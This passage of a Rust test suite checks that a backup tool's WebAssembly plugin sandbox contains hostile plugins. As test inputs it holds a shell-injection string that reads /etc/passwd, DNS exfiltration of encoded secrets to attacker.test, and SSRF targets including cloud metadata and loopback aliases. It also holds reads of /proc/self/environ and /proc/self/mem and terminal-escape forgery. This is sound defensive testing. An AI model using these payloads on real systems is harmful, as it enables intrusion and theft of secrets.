//! Hostile plugins (real components, tests/fixtures) against the sandbox. Each attack must
//! be contained, reported as that source's failure with a clear reason, leave nothing
//! written outside the grants, and not stop the well-behaved source beside it.

use crate::support;

use serde_json::json;
use std::fs;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};
use support::*;

/// The hostile source written against the raw WIT, without the SDK (tests/fixture-raw).
fn raw(id: &str, mode: &str, target: &str, grants: serde_json::Value) -> serde_json::Value {
    json!({
        "id": id,
        "type": "raw-hostile",
        "plugin": fixture("backups_test_raw_fixture.wasm"),
        "mode": mode,
        "target": target,
        "passphrase": "pw-pw-pw",
        "grants": grants
    })
}

fn hostile(mode: &str, granted: &Path) -> serde_json::Value {
    json!({
        "id": mode,
        "type": "hostile",
        "plugin": fixture("backups_test_fixtures.wasm"),
        "mode": mode,
        "path": granted,
        "passphrase": "pw-pw-pw",
        "grants": {"read": [granted]}
    })
}

struct Outcome {
    run: Run,
    report: serde_json::Value,
    dest: std::path::PathBuf,
}

impl Outcome {
    fn source(&self, id: &str) -> &serde_json::Value {
        self.report["sources"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["id"] == id)
            .unwrap_or_else(|| panic!("no source {id} in report"))
    }
    fn error(&self, id: &str) -> String {
        let s = self.source(id);
        assert_eq!(s["ok"], false, "{id} must fail: {s}");
        s["error"].as_str().unwrap().to_string()
    }
}

/// Runs `hostiles` beside one good folder source; returns the report.
fn run_with(work: &Path, hostiles: Vec<serde_json::Value>, limits: serde_json::Value) -> Outcome {
    run_wrapped(work, hostiles, limits, None)
}

/// [`run_with`], with the run's `/etc/resolv.conf` replaced by `resolv` (in a private
/// mount namespace: the machine's own resolver setting is not touched).
fn run_wrapped(
    work: &Path,
    hostiles: Vec<serde_json::Value>,
    limits: serde_json::Value,
    resolv: Option<&Path>,
) -> Outcome {
    let (src, dest, granted) = (work.join("src"), work.join("dest"), work.join("granted"));
    fs::create_dir_all(&src).unwrap();
    fs::write(src.join("good"), b"good data").unwrap();
    fs::create_dir_all(&dest).unwrap();
    fs::create_dir_all(&granted).unwrap();
    let mut sources =
        vec![json!({"id": "good", "type": "folder", "path": src, "passphrase": "pw-pw-pw"})];
    sources.extend(hostiles);
    let job = write_job(
        work,
        &json!({
            "hostname": "h",
            "tmpdir": work.join("tmp"),
            "limits": limits,
            "sources": sources,
            "destinations": [{"id": "disk", "type": "local", "path": dest}]
        }),
    );
    let mut cmd = backups();
    if let Some(resolv) = resolv {
        let binary = cmd.get_program().to_owned();
        let mut wrapped = Command::new("unshare");
        wrapped
            .args(["--mount", "sh", "-c"])
            .arg(r#"mount --bind "$0" /etc/resolv.conf && exec "$@""#)
            .arg(resolv)
            .arg(binary);
        for (k, v) in cmd.get_envs() {
            match v {
                Some(v) => wrapped.env(k, v),
                None => wrapped.env_remove(k),
            };
        }
        cmd = wrapped;
    }
    let run = run(cmd
        .env("BACKUPS_TEST_HOST_SECRET", "host-secret-value")
        .arg("run")
        .arg("--json")
        .arg(&job));
    let report: serde_json::Value =
        serde_json::from_str(&run.stdout).expect("--json prints the report");
    Outcome { run, report, dest }
}

fn assert_good_source_stored_alone(o: &Outcome) {
    assert_eq!(o.run.code, 1, "failed sources make the run fail");
    assert_eq!(o.source("good")["ok"], true);
    let stored = artifacts(&o.dest);
    assert_eq!(
        stored.len(),
        1,
        "only the good source is stored: {stored:?}"
    );
    assert!(
        stored[0]
            .display()
            .to_string()
            .ends_with("/good.tar.gz.gpg")
    );
    // Nothing a hostile plugin produced reached a destination, and no breach happened.
    assert!(!o.run.all().contains("BREACH"), "{}", o.run.all());
}

#[test]
fn filesystem_escapes_are_refused() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", granted.join("escape")).unwrap();
    let o = run_with(
        work.path(),
        vec![
            hostile("read-outside", &granted),
            hostile("escape-dotdot", &granted),
            hostile("symlink-escape", &granted),
            hostile("lstat-outside", &granted),
            hostile("write-readonly", &granted),
        ],
        json!({}),
    );
    assert_good_source_stored_alone(&o);
    for id in [
        "read-outside",
        "escape-dotdot",
        "symlink-escape",
        "lstat-outside",
        "write-readonly",
    ] {
        let e = o.error(id);
        assert!(e.contains("refused"), "{id}: {e}");
    }
    // The host logged the lstat denial with plugin, capability and what was asked.
    assert!(
        o.run
            .stderr
            .contains("denied: /etc/passwd is not inside any read or write grant"),
        "{}",
        o.run.stderr
    );
    assert!(
        !granted.join("planted-by-plugin").exists(),
        "wrote into a read-only grant"
    );
}

#[test]
fn environment_commands_and_network_are_refused() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let target = listener.local_addr().unwrap().to_string();
    let mut connect = hostile("connect", &granted);
    connect["target"] = json!(target);
    let o = run_with(
        work.path(),
        vec![hostile("env", &granted), hostile("run", &granted), connect],
        json!({}),
    );
    assert_good_source_stored_alone(&o);
    assert!(o.error("env").contains("refused"));
    assert!(!o.run.all().contains("host-secret-value"));
    let run_err = o.error("run");
    assert!(run_err.contains("running sh is not granted"), "{run_err}");
    assert!(
        o.run.stderr.contains("capability=\"run\"") || o.run.stderr.contains("capability=run"),
        "{}",
        o.run.stderr
    );
    assert!(o.error("connect").contains("refused"));
    assert!(
        listener.accept().is_err(),
        "the plugin reached a socket it was not granted"
    );
}

/// Runs the hostile `mode` under a 2 s call limit: it must be stopped there, the run must
/// end soon after, and the good source beside it must be stored alone.
fn assert_stopped_at_a_two_second_limit(work: &Path, mode: &str) {
    let granted = work.join("granted");
    let started = Instant::now();
    let o = run_with(
        work,
        vec![hostile(mode, &granted)],
        json!({"call_seconds": 2}),
    );
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "took {:?}",
        started.elapsed()
    );
    assert_good_source_stored_alone(&o);
    let e = o.error(mode);
    assert!(e.contains("did not finish within 2s"), "{e}");
}

#[test]
fn a_plugin_that_spins_is_stopped_at_its_time_limit() {
    let work = tempfile::tempdir().unwrap();
    assert_stopped_at_a_two_second_limit(work.path(), "spin");
}

#[test]
fn a_plugin_waiting_on_a_fifo_in_its_grant_is_stopped_and_the_run_ends() {
    // The plugin's open blocks in the kernel, where no epoch deadline reaches it; the
    // call limit must still end the call, and the stuck thread must not keep the
    // process from exiting.
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(granted.join("fifo"))
        .status()
        .unwrap();
    assert!(made.success(), "mkfifo failed");
    assert_stopped_at_a_two_second_limit(work.path(), "fifo");
}

#[test]
fn memory_growth_past_the_cap_and_panics_are_contained() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    let o = run_with(
        work.path(),
        vec![hostile("grow", &granted), hostile("trap", &granted)],
        json!({"memory_mib": 64}),
    );
    assert_good_source_stored_alone(&o);
    let grow = o.error("grow");
    assert!(
        grow.contains("exceeded its memory limit of 64 MiB"),
        "{grow}"
    );
    let trap = o.error("trap");
    assert!(trap.contains("plugin crashed"), "{trap}");
    assert!(
        trap.contains("hostile plugin panicked on purpose"),
        "the panic message is kept: {trap}"
    );
}

#[test]
fn a_dump_that_fails_half_way_is_never_uploaded() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    let o = run_with(work.path(), vec![hostile("truncate", &granted)], json!({}));
    assert_good_source_stored_alone(&o);
    assert!(
        o.error("truncate")
            .contains("dump failed half way on purpose")
    );
    assert_eq!(
        leftovers(&work.path().join("tmp")),
        Vec::<String>::new(),
        "temp artifact removed"
    );
}

#[test]
fn handle_hoarding_and_endless_recursion_are_contained() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    fs::write(granted.join("f"), b"a file to open again and again").unwrap();
    let o = run_with(
        work.path(),
        vec![
            hostile("open-files", &granted),
            hostile("files-hoard", &granted),
            hostile("stack", &granted),
        ],
        json!({"resources": 256}),
    );
    assert_good_source_stored_alone(&o);
    // WASI opens and streams of the byte-path `files` interface count against the same
    // limit. Either the guest's open fails or the instance traps; both name the limit's
    // effect well before the process's own descriptor limit.
    for id in ["open-files", "files-hoard"] {
        let hoard = o.error(id);
        let opened: usize = hoard
            .split("opening handle ")
            .nth(1)
            .and_then(|rest| rest.split(|c: char| !c.is_ascii_digit()).next())
            .and_then(|n| n.parse().ok())
            .unwrap_or(0);
        assert!(
            hoard.contains("limits.resources") || (1..=256).contains(&opened),
            "{id}: {hoard}"
        );
    }
    let stack = o.error("stack");
    assert!(
        stack.contains("call stack exhausted") || stack.contains("stack overflow"),
        "{stack}"
    );
}

#[test]
fn a_log_flood_is_capped_and_said_so() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    let o = run_with(
        work.path(),
        vec![hostile("log-flood", &granted)],
        json!({"log_kib": 64}),
    );
    // The flood itself is no failure: the plugin's 100 MiB of stderr were cut at 64 KiB.
    assert_eq!(o.source("log-flood")["ok"], true, "{}", o.run.stderr);
    assert!(
        o.run.stderr.len() < 1 << 20,
        "{} bytes of stderr reached the log",
        o.run.stderr.len()
    );
    assert!(
        o.run.stderr.contains("further output dropped"),
        "the cut is said: {}",
        &o.run.stderr[o.run.stderr.len().saturating_sub(2000)..]
    );
}

#[test]
fn a_granted_command_never_runs_through_a_shell() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    let mut injection = hostile("run-injection", &granted);
    injection["grants"]["run"] = json!(["echo"]);
    let o = run_with(work.path(), vec![injection], json!({}));
    assert_eq!(o.source("run-injection")["ok"], true, "{}", o.run.stderr);
    let stored = gunzip(&decrypt_artifact(
        &o.dest,
        "run-injection",
        "txt",
        "pw-pw-pw",
    ));
    assert_eq!(
        String::from_utf8_lossy(&stored),
        "; id; $(id) `id` | cat /etc/passwd && touch /tmp/backups-injected\n",
        "echo got one literal argument"
    );
    assert!(!Path::new("/tmp/backups-injected").exists());
}

/// A one-shot HTTP server answering every request with `response`; counts connections.
fn http_server(response: &'static str) -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = hits.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut stream = stream;
            // The whole request head before answering: closing with unread bytes would
            // reset the connection before the client reads the answer.
            let mut head = Vec::new();
            let mut buf = [0u8; 4096];
            while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                match stream.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => head.extend_from_slice(&buf[..n]),
                }
            }
            let _ = stream.write_all(response.as_bytes());
            let _ = stream.shutdown(std::net::Shutdown::Write);
            // Drain what else the client sent (a chunked empty body's terminator) until it
            // closes: closing with unread bytes would reset the connection under its read.
            let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(5)));
            while matches!(stream.read(&mut buf), Ok(n) if n > 0) {}
        }
    });
    (port, hits)
}

#[test]
fn http_to_peers_not_granted_is_refused_through_redirects_and_aliases() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    // The forbidden server holds "secrets"; the granted one redirects to it.
    let (forbidden, forbidden_hits) =
        http_server("HTTP/1.1 200 OK\r\ncontent-length: 6\r\nconnection: close\r\n\r\nsecret");
    let redirect: &'static str = Box::leak(
        format!(
            "HTTP/1.1 302 Found\r\nlocation: http://127.0.0.1:{forbidden}/secret\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
        )
        .into_boxed_str(),
    );
    let (allowed, allowed_hits) = http_server(redirect);

    let attack = |id: &str, target: String| {
        let mut h = hostile("http", &granted);
        h["id"] = json!(id);
        h["target"] = json!(target);
        h["grants"]["net"] = json!([format!("127.0.0.1:{allowed}")]);
        h
    };
    // A name other than `localhost` that resolves to loopback (here: this machine's own
    // name, which /etc/hosts maps to 127.0.0.1), granted by name: a grant of a name must
    // not lead into this host.
    let own_name = loopback_name();
    let mut rebind = attack("rebind", format!("http://{own_name}:{forbidden}/"));
    rebind["grants"]["net"] = json!([format!("{own_name}:{forbidden}")]);
    let o = run_with(
        work.path(),
        vec![
            attack("redirect", format!("http://127.0.0.1:{allowed}/")),
            attack("alias", format!("http://localhost:{forbidden}/")),
            attack("direct", format!("http://127.0.0.1:{forbidden}/")),
            rebind,
        ],
        json!({}),
    );
    assert_good_source_stored_alone(&o);
    assert!(
        o.run.stderr.contains(&format!(
            "denied: {own_name}:{forbidden} leads to the internal address"
        )),
        "{}",
        o.run.stderr
    );
    for id in ["redirect", "alias", "direct", "rebind"] {
        let e = o.error(id);
        assert!(e.contains("refused") || e.contains("denied"), "{id}: {e}");
    }
    assert!(
        allowed_hits.load(std::sync::atomic::Ordering::SeqCst) >= 1,
        "the granted server was reached"
    );
    assert_eq!(
        forbidden_hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "no request reached the server that was not granted"
    );
    assert!(
        o.run
            .stderr
            .contains("denied: no net grant matches 127.0.0.1"),
        "{}",
        o.run.stderr
    );
}

/// This machine's host name, which must resolve to a loopback address (as /etc/hosts
/// makes it on Debian and in CI).
fn loopback_name() -> String {
    use std::net::ToSocketAddrs;
    let name = String::from_utf8(
        std::process::Command::new("hostname")
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap()
    .trim()
    .to_string();
    let loopback = (name.as_str(), 80)
        .to_socket_addrs()
        .map(|mut a| a.any(|a| a.ip().is_loopback()))
        .unwrap_or(false);
    assert!(
        loopback && name != "localhost",
        "this test needs the host name ({name:?}) to resolve to a loopback address, \
         as /etc/hosts does on Debian"
    );
    name
}

#[test]
fn time_for_all_calls_and_instance_counts_are_limited_too() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    let mut spin = hostile("spin", &granted);
    spin["limits"] = json!({"call_seconds": 600, "total_seconds": 2});
    let mut crowded = hostile("good", &granted);
    crowded["id"] = json!("crowded");
    crowded["limits"] = json!({"instances": 1});
    let started = Instant::now();
    let o = run_with(work.path(), vec![spin, crowded], json!({}));
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "took {:?}",
        started.elapsed()
    );
    assert_good_source_stored_alone(&o);
    let e = o.error("spin");
    assert!(e.contains("limits.total_seconds"), "{e}");
    let e = o.error("crowded");
    assert!(e.contains("limits.instances"), "{e}");
}

#[test]
fn malformed_dump_info_is_refused_or_cut_down() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    let o = run_with(
        work.path(),
        vec![
            hostile("bad-kind", &granted),
            hostile("warning-flood", &granted),
            hostile("huge-error", &granted),
        ],
        json!({}),
    );
    // A 10 MiB error message is cut to a readable size wherever it goes.
    let e = o.error("huge-error");
    assert!(
        e.len() < 4000 && e.contains("more bytes]"),
        "{} bytes",
        e.len()
    );
    assert!(
        o.run.stderr.len() < 1 << 20,
        "{} bytes of stderr",
        o.run.stderr.len()
    );
    let e = o.error("bad-kind");
    assert!(e.contains("the plugin named its artifact kind"), "{e}");
    assert!(
        files_under(&o.dest).iter().all(|f| !f.contains("etc")),
        "{:?}",
        files_under(&o.dest)
    );
    // Stored, with its warnings cut to a readable few.
    let flood = o.source("warning-flood");
    assert_eq!(flood["ok"], true, "{flood}");
    let warnings = flood["warnings"].as_array().expect("warnings listed");
    assert!(warnings.len() <= 21, "{} warnings", warnings.len());
    assert!(
        warnings
            .last()
            .unwrap()
            .as_str()
            .unwrap()
            .contains("9980 more warnings"),
        "{warnings:?}"
    );
    assert!(
        o.run.stdout.len() < 200_000,
        "report of {} bytes",
        o.run.stdout.len()
    );
}

/// A DNS server on a loopback address of its own that records every name it is asked
/// about (tests/servers/dns_recorder.py); answers names under `granted.test`.
struct Dns {
    _server: Server,
    log: std::path::PathBuf,
    resolv: std::path::PathBuf,
}

impl Dns {
    fn start(dir: &Path) -> Dns {
        // An address of its own in 127/8, so that no other resolver is in the way.
        let address = format!("127.0.{}.{}", 50 + std::process::id() % 200, 53);
        let log = dir.join("dns.log");
        let child = Command::new("python3")
            .arg(server_script("dns_recorder.py"))
            .args([&address, log.to_str().unwrap(), "granted.test"])
            .spawn()
            .expect("python3 runs the DNS recorder");
        let server = Server { child, port: 53 };
        let deadline = Instant::now() + Duration::from_secs(20);
        while !fs::read_to_string(&log)
            .unwrap_or_default()
            .contains("#ready")
        {
            assert!(
                Instant::now() < deadline,
                "the DNS recorder did not start on {address}:53 (it needs root)"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        let resolv = dir.join("resolv.conf");
        fs::write(
            &resolv,
            format!("nameserver {address}\noptions attempts:1 timeout:2\n"),
        )
        .unwrap();
        Dns {
            _server: server,
            log,
            resolv,
        }
    }

    fn asked(&self) -> String {
        fs::read_to_string(&self.log).unwrap()
    }
}

#[test]
fn name_lookups_reach_the_resolver_only_for_names_a_grant_names() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    let dns = Dns::start(work.path());
    let lookup = |id: &str, names: &str, net: serde_json::Value| {
        let mut h = hostile("lookup", &granted);
        h["id"] = json!(id);
        h["target"] = json!(names);
        h["grants"]["net"] = net;
        h
    };
    let o = run_wrapped(
        work.path(),
        vec![
            // Positive controls: the resolver is reached for granted names.
            lookup("exact", "api.granted.test", json!(["api.granted.test:443"])),
            lookup("suffix", "eu.granted.test", json!(["*.granted.test"])),
            // The exfiltration: a secret as a DNS label, with an unrelated grant.
            lookup(
                "exfil",
                "c2VjcmV0LXZhbHVl.attacker.test",
                json!(["api.granted.test:443"]),
            ),
            lookup(
                "exfil-suffix",
                "x.granted.test.attacker.test",
                json!(["*.granted.test"]),
            ),
            raw(
                "raw-exfil",
                "lookup",
                "cmF3LXNlY3JldA.attacker.test",
                json!({"net": ["api.granted.test:443"]}),
            ),
            raw(
                "raw-control",
                "lookup",
                "raw.granted.test",
                json!({"net": ["raw.granted.test:443"]}),
            ),
        ],
        json!({}),
        Some(&dns.resolv),
    );
    assert_good_source_stored_alone_besides(&o, &["exact", "suffix", "raw-control"]);
    let asked = dns.asked();
    assert!(asked.contains("raw.granted.test"), "control: {asked}");
    assert!(asked.contains("api.granted.test"), "control: {asked}");
    assert!(asked.contains("eu.granted.test"), "control: {asked}");
    assert!(
        !asked.contains("attacker"),
        "no query for an ungranted name reached the DNS server: {asked}"
    );
    for id in ["exfil", "exfil-suffix", "raw-exfil"] {
        let e = o.error(id);
        assert!(e.contains("refused") || e.contains("denied"), "{id}: {e}");
    }
    assert!(
        o.run
            .stderr
            .contains("denied: name lookup of c2VjcmV0LXZhbHVl.attacker.test"),
        "{}",
        o.run.stderr
    );
}

#[test]
fn a_wildcard_never_reaches_loopback_link_local_or_unspecified_addresses() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    let (port, hits) =
        http_server("HTTP/1.1 200 OK\r\ncontent-length: 6\r\nconnection: close\r\n\r\nsecret");
    let attack = |id: &str, mode: &str, target: String, net: serde_json::Value| {
        let mut h = hostile(mode, &granted);
        h["id"] = json!(id);
        h["target"] = json!(target);
        h["grants"]["net"] = net;
        h
    };
    let mut hostiles = Vec::new();
    for (id, url) in [
        ("v4", format!("http://127.0.0.1:{port}/")),
        ("v4-short", format!("http://127.1:{port}/")),
        ("v4-decimal", format!("http://2130706433:{port}/")),
        ("name", format!("http://localhost:{port}/")),
        ("mapped", format!("http://[::ffff:127.0.0.1]:{port}/")),
        ("unspecified", format!("http://0.0.0.0:{port}/")),
        (
            "metadata",
            "http://169.254.169.254/latest/meta-data/".to_string(),
        ),
        (
            "metadata-mapped",
            "http://[::ffff:169.254.169.254]/".to_string(),
        ),
    ] {
        hostiles.push(attack(id, "http", url, json!(["*"])));
    }
    hostiles.push(attack(
        "socket",
        "connect",
        format!("127.0.0.1:{port}"),
        json!(["*"]),
    ));
    for (id, authority) in [
        ("raw-v4", format!("127.0.0.1:{port}")),
        ("raw-mapped", format!("[::ffff:127.0.0.1]:{port}")),
        ("raw-name", format!("localhost:{port}")),
        ("raw-metadata", "169.254.169.254".to_string()),
    ] {
        hostiles.push(raw(id, "http", &authority, json!({"net": ["*"]})));
    }
    hostiles.push(attack(
        "socket-any-port",
        "connect",
        format!("127.0.0.1:{port}"),
        json!(["*:443"]),
    ));
    // The control: a grant naming the address exactly reaches it.
    hostiles.push(attack(
        "exact",
        "http",
        format!("http://127.0.0.1:{port}/"),
        json!([format!("127.0.0.1:{port}")]),
    ));
    let o = run_with(work.path(), hostiles, json!({}));
    for id in [
        "v4",
        "v4-short",
        "v4-decimal",
        "name",
        "mapped",
        "unspecified",
        "metadata",
        "metadata-mapped",
        "socket",
        "socket-any-port",
        "raw-v4",
        "raw-mapped",
        "raw-name",
        "raw-metadata",
    ] {
        let e = o.error(id);
        assert!(e.contains("refused") || e.contains("denied"), "{id}: {e}");
    }
    // The exact grant's one request is the only one that reached the server.
    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        1,
        "{}",
        o.run.stderr
    );
    assert_eq!(o.source("exact")["ok"], true, "{}", o.run.stderr);
    assert!(
        o.run.stderr.contains("leads to the internal address"),
        "{}",
        o.run.stderr
    );
}

/// Like [`assert_good_source_stored_alone`], where the sources `also` are expected to
/// succeed (positive controls) and every other one to fail.
fn assert_good_source_stored_alone_besides(o: &Outcome, also: &[&str]) {
    assert_eq!(o.run.code, 1, "failed sources make the run fail");
    assert_eq!(o.source("good")["ok"], true);
    for id in also {
        assert_eq!(o.source(id)["ok"], true, "{id}: {}", o.run.stderr);
    }
}

#[test]
fn private_files_are_bounded_per_plugin_in_count_and_bytes() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    let mut by_count = hostile("private-file-flood", &granted);
    by_count["id"] = json!("by-count");
    by_count["limits"] = json!({"private_files": 3});
    let by_bytes = hostile("private-file-flood", &granted);
    let o = run_with(work.path(), vec![by_count, by_bytes], json!({}));
    assert_good_source_stored_alone(&o);
    let e = o.error("by-count");
    assert!(e.contains("limits.private_files"), "{e}");
    let e = o.error("private-file-flood");
    assert!(e.contains("limits.private_file_kib"), "{e}");
    // Nothing of either is left in the tmpdir.
    assert_eq!(leftovers(&work.path().join("tmp")), Vec::<String>::new());
}

#[test]
fn no_grant_reaches_proc_devices_or_the_hosts_own_directories() {
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let granted = w.join("granted");
    fs::create_dir_all(&granted).unwrap();
    let everything = json!({"read": ["/"]});
    // `/` holds the job file: a third-party plugin gets that only when the entry says so.
    let risky = |mut entry: serde_json::Value| {
        entry["allow_risky_grants"] = json!(true);
        entry
    };
    let o = run_with(
        w,
        vec![
            // The host's environment and memory, through a whole-system grant.
            risky(raw(
                "environ",
                "read",
                "proc/self/environ",
                everything.clone(),
            )),
            risky(raw("mem", "read", "proc/self/mem", everything.clone())),
            risky(raw(
                "sys",
                "read",
                "sys/kernel/hostname",
                everything.clone(),
            )),
            // A device read raw is every file on it.
            risky(raw("device", "read", "dev/zero", everything.clone())),
            // A grant that resolves onto procfs is refused outright.
            raw(
                "proc-grant",
                "read",
                "self/environ",
                json!({"read": ["/proc"]}),
            ),
            // The control: an ordinary file through the same grant.
            risky(raw("control", "read", "etc/hostname", everything)),
        ],
        json!({}),
    );
    assert_eq!(o.run.code, 1);
    assert_eq!(o.source("good")["ok"], true);
    assert_eq!(o.source("control")["ok"], true, "{}", o.run.stderr);
    for id in ["environ", "mem", "sys", "device"] {
        let e = o.error(id);
        assert!(e.contains("open-at"), "{id}: {e}");
    }
    assert!(
        o.error("proc-grant").contains("pseudo-filesystem"),
        "{}",
        o.run.stderr
    );
    assert!(!o.run.all().contains("host-secret-value"));
    assert!(
        o.run
            .stderr
            .contains("denied: proc/self/environ: on a pseudo-filesystem (proc)"),
        "{}",
        o.run.stderr
    );
}

#[test]
fn a_folder_that_contains_the_tmpdir_skips_it_and_says_so() {
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    fs::create_dir_all(w.join("data")).unwrap();
    fs::write(w.join("data/kept.txt"), "kept").unwrap();
    // The job's tmpdir is inside the folder backed up: its run directory holds the
    // artifact being written and other plugins' private files.
    let job = job_to_local_disk(
        w,
        vec![
            json!({"id": "all", "type": "folder", "path": w, "passphrase": "pw-pw-pw",
                    "excludes": ["dest"]}),
        ],
    );
    let r = run(backups().arg("run").arg("--json").arg(&job));
    assert_eq!(r.code, 0, "{}", r.stderr);
    let report: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    let warnings = report["sources"][0]["warnings"].to_string();
    assert!(
        warnings.contains("the host lets no plugin read them"),
        "{warnings}"
    );
    let into = w.join("restored");
    untar_gz(
        &decrypt_artifact(&w.join("dest"), "all", "tar", "pw-pw-pw"),
        &into,
    );
    let names = files_under(&into).join("\n");
    assert!(names.contains("data/kept.txt"), "{names}");
    assert!(
        !names.contains("/run-"),
        "the run directory is not archived: {names}"
    );
}

#[test]
fn a_file_grant_is_the_file_not_its_directory() {
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let secrets = w.join("secrets");
    fs::create_dir_all(&secrets).unwrap();
    fs::write(secrets.join("granted.txt"), "granted").unwrap();
    fs::write(secrets.join("beside.txt"), "not granted").unwrap();
    let file = secrets.join("granted.txt");
    let o = run_with(
        w,
        vec![
            raw("sibling", "read", "beside.txt", json!({"read": [file]})),
            raw("the-file", "read", "granted.txt", json!({"read": [file]})),
        ],
        json!({}),
    );
    assert_eq!(o.source("the-file")["ok"], true, "{}", o.run.stderr);
    let e = o.error("sibling");
    assert!(e.contains("open-at beside.txt"), "{e}");
    // A folder source of one file archives that file alone.
    let job = job_to_local_disk(
        &w.join("one"),
        vec![json!({"id": "one", "type": "folder", "path": file, "passphrase": "pw-pw-pw"})],
    );
    let r = run(backups().arg("run").arg(&job));
    assert_eq!(r.code, 0, "{}", r.stderr);
    let into = w.join("restored");
    untar_gz(
        &decrypt_artifact(&w.join("one/dest"), "one", "tar", "pw-pw-pw"),
        &into,
    );
    let names = files_under(&into);
    assert_eq!(names.len(), 1, "{names:?}");
    assert!(names[0].ends_with("secrets/granted.txt"), "{names:?}");
    // And check says what the grant opens.
    let c = run(backups().arg("check").arg(&job));
    assert!(
        c.stdout.contains("the plugin sees it alone"),
        "{}",
        c.stdout
    );
}

#[test]
fn a_third_party_grant_over_the_job_file_or_a_secret_file_is_refused_unless_allowed() {
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let secret = w.join("passphrase.txt");
    fs::write(&secret, "pw-from-file").unwrap();
    let mut entry = raw("nosy", "read", "job.json", json!({"read": [w]}));
    entry["passphrase"] = json!({"file": secret});
    let job = job_to_local_disk(w, vec![entry.clone()]);
    let c = run(backups().arg("check").arg(&job));
    assert_ne!(c.code, 0, "{}", c.all());
    assert!(c.all().contains("allow_risky_grants"), "{}", c.all());
    entry["allow_risky_grants"] = json!(true);
    let job = job_to_local_disk(w, vec![entry]);
    let c = run(backups().arg("check").arg(&job));
    assert!(
        c.stdout.contains("RISK:") && c.stdout.contains("holds this job's secrets"),
        "{}",
        c.stdout
    );
}

#[test]
fn a_plugins_words_reach_no_terminal_raw() {
    let work = tempfile::tempdir().unwrap();
    let granted = work.path().join("granted");
    fs::create_dir_all(&granted).unwrap();
    let o = run_with(work.path(), vec![hostile("forge", &granted)], json!({}));
    assert_good_source_stored_alone(&o);
    let e = o.error("forge");
    assert!(e.contains("\\n") && e.contains("\\u{1b}"), "{e}");
    for (what, text) in [("stdout", &o.run.stdout), ("stderr", &o.run.stderr)] {
        assert!(!text.contains('\u{1b}'), "{what} holds a raw ESC: {text}");
        assert!(
            !text.contains('\u{202e}'),
            "{what} holds a raw bidi override"
        );
        assert!(
            !text
                .lines()
                .any(|l| l.trim_start().starts_with("OK: every source reached")),
            "{what} has a forged line: {text}"
        );
    }
}

/// An entry of the SDK fixture aimed at `target` through the byte-path `files` interface.
fn files_attack(
    id: &str,
    mode: &str,
    target: &str,
    grants: serde_json::Value,
) -> serde_json::Value {
    json!({
        "id": id,
        "type": "hostile",
        "plugin": fixture("backups_test_fixtures.wasm"),
        "mode": mode,
        "target": target,
        "passphrase": "pw-pw-pw",
        "grants": grants,
        "allow_risky_grants": true
    })
}

#[test]
fn the_byte_path_files_interface_reaches_no_more_than_wasi_does() {
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let granted = w.join("granted");
    fs::create_dir_all(&granted).unwrap();
    fs::write(granted.join("ok.txt"), "control-bytes").unwrap();
    fs::write(w.join("secret.txt"), "outside-secret").unwrap();
    std::os::unix::fs::symlink(w.join("secret.txt"), granted.join("escape")).unwrap();
    let fifo = granted.join("fifo");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    // A device node inside the grant (this test runs as root, as CI does).
    let zero = granted.join("zero");
    assert!(
        Command::new("mknod")
            .arg(&zero)
            .args(["c", "1", "5"])
            .status()
            .unwrap()
            .success()
    );
    let g = |p: &Path| p.display().to_string();
    let only_granted = json!({"read": [granted]});
